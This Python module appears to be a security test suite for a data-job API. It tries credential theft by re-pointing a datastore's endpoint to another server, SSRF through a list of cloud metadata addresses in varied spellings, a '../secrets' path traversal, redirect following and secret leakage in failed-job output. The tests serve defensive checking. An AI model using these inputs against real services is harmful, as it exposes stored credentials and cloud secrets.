"""What a submitter can name to have the secret of somebody's datastore sent elsewhere."""

from __future__ import annotations

import secrets
from functools import partial

from tests.acceptance.http_user import HttpUser
from tests.security.attack import Attack, Target
from tests.security.attacks.paths import READING, submit
from tests.security.attacks.words import by_all_doors
from tests.security.local_store import ALLOWED, PRIVATE, SHARED, LocalStore, store_of
from tests.security.target import KEY_IN_STORE, SECRET_OF_STORE

_VICTIM = "victim"


def _sent_elsewhere(name: str, fields: dict[str, str], target: Target) -> str:
    """Define a datastore with the secret of another one, and read from it.

    Args:
        name: of the datastore; that of the victim's defines it anew.
        fields: how it differs from the victim's; `SERVER` stands for a server by another name.
    """
    store = store_of(target)
    if store is None:
        return ""  # what runs there reaches no server of ours, and allows none
    victim = _of_victim(store)
    changed = {field: value.replace("SERVER", store.other_url) for field, value in fields.items()}
    with HttpUser(target.url, target.token) as user:
        user.client.put(f"/v1/datastores/{_VICTIM}", json=victim).raise_for_status()
        status, job = submit(user, target, inputs={"data": f"azureml://datastores/{_VICTIM}/paths/x"})
        assert status == 202, job
        assert any(KEY_IN_STORE in request.authorization for request in store.requests), job["failure"]
        store.requests.clear()
        user.client.put(f"/v1/datastores/{name}", json={**victim, **changed})
        submit(user, target, inputs={"data": f"azureml://datastores/{name}/paths/x"})
        user.client.put(f"/v1/datastores/{_VICTIM}", json=victim).raise_for_status()
    own = store.url.partition("://")[2]
    for request in store.requests:
        is_own = request.host == own and request.path.startswith(f"/{ALLOWED}")
        if KEY_IN_STORE in request.authorization and not is_own:
            return f"the secret of the store {own} was used for {request.host}{request.path}"
    return ""


def _told(target: Target) -> str:
    """Look for the secret of a datastore in what is told of a job that has failed by it."""
    store = store_of(target)
    if store is None:
        return ""
    with HttpUser(target.url, target.token) as user:
        user.client.put(f"/v1/datastores/{_VICTIM}", json=_of_victim(store)).raise_for_status()
        status, job = submit(user, target, inputs={"data": f"azureml://datastores/{_VICTIM}/paths/nowhere"})
        assert (status, job["state"]) == (202, "failed"), job
        defined = [(path, user.client.get(path).text) for path in ("/v1/datastores", f"/v1/datastores/{_VICTIM}")]
    told = [*defined, *by_all_doors(target, str(job["id"]))]
    return next((f"{name} has the secret" for name, text in told if KEY_IN_STORE in text), "")


def _of_victim(store: LocalStore) -> dict[str, object]:
    return {
        "type": "s3", "bucket": ALLOWED, "endpoint": store.url, "region": "us-east-1",
        "credentials": {"secret": SECRET_OF_STORE},
    }  # fmt: skip


def _redirected(status: int, target: Target) -> str:
    """Read a file that jobs may read, whose server says that it is on another one."""
    store = store_of(target)
    if store is None:
        return ""
    store.redirects[f"{ALLOWED}/away"] = (status, f"{store.other_url}/{PRIVATE}/x")
    store.redirects[f"{ALLOWED}/here"] = (status, f"{store.url}/{ALLOWED}/x")
    store.requests.clear()
    with HttpUser(target.url, target.token) as user:
        submit(user, target, READING, inputs={"data": f"{store.url}/{ALLOWED}/away"})
        if any(f"/{PRIVATE}/" in request.path for request in store.requests):
            return f"a redirect with {status} was followed to {store.other_url}"
        status, job = submit(user, target, READING, inputs={"data": f"{store.url}/{ALLOWED}/here"})
        assert (status, job["state"]) == (202, "completed"), job["failure"]
    return ""


def _metadata(target: Target) -> str:
    """Name the metadata of a cloud, in any spelling of its address."""
    hosts = (
        "169.254.169.254", "[::ffff:169.254.169.254]", "[64:ff9b::a9fe:a9fe]", "[fd00:ec2::254]", "192.0.0.192",
        "100.100.100.200", "168.63.129.16",
    )  # fmt: skip
    with HttpUser(target.url, target.token) as user:
        for host in hosts:
            status, answer = submit(user, target, inputs={"data": f"https://{host}/latest/meta-data"})
            said = str(answer.get("errors", ""))
            if status == 202 or "only machines themselves" not in said:
                return f"{host} was accepted: {answer}"
            document = {"type": "s3", "bucket": "latest", "endpoint": f"https://{host}"}
            if user.client.put("/v1/datastores/metadata", json=document).is_success:
                return f"{host} was accepted as an endpoint"
    return ""


def _secrets_as_input(target: Target) -> str:
    """Name the folder of secrets as an input, and let the API show what is in it, too."""
    if store_of(target) is None:
        return ""  # secrets are on a volume that the API doesn't have
    place = f"{target.inputs_there}/../secrets"
    with HttpUser(target.url, target.token) as user:
        for path in (place, f"{place}/datastores", f"{place}/datastores/{SECRET_OF_STORE}", f"{place}/*/*"):
            rows = {"path": path, "transformations": [{"read_delimited": {"delimiter": "~", "header": False}}]}
            shown = user.client.post("/v1/jobs:preview", json={"inputs": {"rows": rows}}, timeout=60)
            if shown.is_success or KEY_IN_STORE in shown.text:
                return f"{path} is shown: {shown.text[:300]}"
            if submit(user, target, READING, inputs={"data": path})[0] == 202:
                return f"{path} was accepted as an input"
    return ""


_OTHER = f"attacker{secrets.token_hex(2)}"
ATTACKS: list[Attack] = [
    Attack("an input whose server redirects to another one", partial(_redirected, 302)),
    Attack("an input whose server redirects to another one, with the method", partial(_redirected, 307)),
    Attack("addresses of a cloud's metadata as inputs and endpoints", _metadata),
    Attack("the folder of the stores' secrets as an input", _secrets_as_input),
    Attack("the secret of a datastore in what is told of a job that fails by it", _told),
    Attack(
        "a second datastore that has another's secret sent to its server",
        partial(_sent_elsewhere, _OTHER, {"endpoint": "SERVER"}),
    ),
    Attack(
        "a datastore defined anew so that its secret goes to another server",
        partial(_sent_elsewhere, _VICTIM, {"endpoint": "SERVER"}),
    ),
    Attack(
        "a second datastore that has another's secret used for another bucket",
        partial(_sent_elsewhere, _OTHER, {"bucket": SHARED}),
    ),
]
